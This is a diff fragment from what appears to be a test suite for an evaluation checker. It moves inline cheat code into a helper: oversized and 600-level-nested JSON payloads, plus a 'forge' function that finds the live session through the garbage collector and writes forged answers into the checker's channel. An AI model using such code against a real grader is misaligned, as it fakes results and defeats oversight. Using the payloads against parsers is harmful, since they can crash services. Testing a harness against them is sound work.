-    DEEP = '{"op":"result","value":' + "[" * 600 + "]" * 600 + ',"id":ID}'
-    HUGE = '{"op":"result","value":{"kind":"tensor","array":{"__array__":["float64",[' + "9" * 5000 + '],""]}},"id":ID}'
-
-
-    def forge(line):
-        """Write `line` to the checker as the answer to the request being served now."""
-        session = next(o for o in gc.get_objects() if type(o).__name__ == "Session" and hasattr(o, "channel"))
-        os.write(session.channel.write_fd, line.replace("ID", json.dumps(session.request_id)).encode() + b"\\n")
-    '''
-)
+FORGE_MESSAGE = cheat_code("forge_message")
 
 
 def forged_answers(in_loss: str, in_predict: str) -> str:
